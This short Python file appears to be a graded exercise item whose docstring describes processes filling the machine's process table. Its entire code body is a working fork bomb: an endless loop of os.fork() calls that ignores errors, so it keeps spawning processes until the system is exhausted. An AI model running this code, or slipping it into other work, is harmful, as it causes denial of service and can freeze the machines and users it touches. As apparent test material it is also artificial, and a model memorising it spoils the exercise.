"""Processes that make processes fill the machine's table of them."""

STATUS = ("graded", "needs_review")

# %% answer:number
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
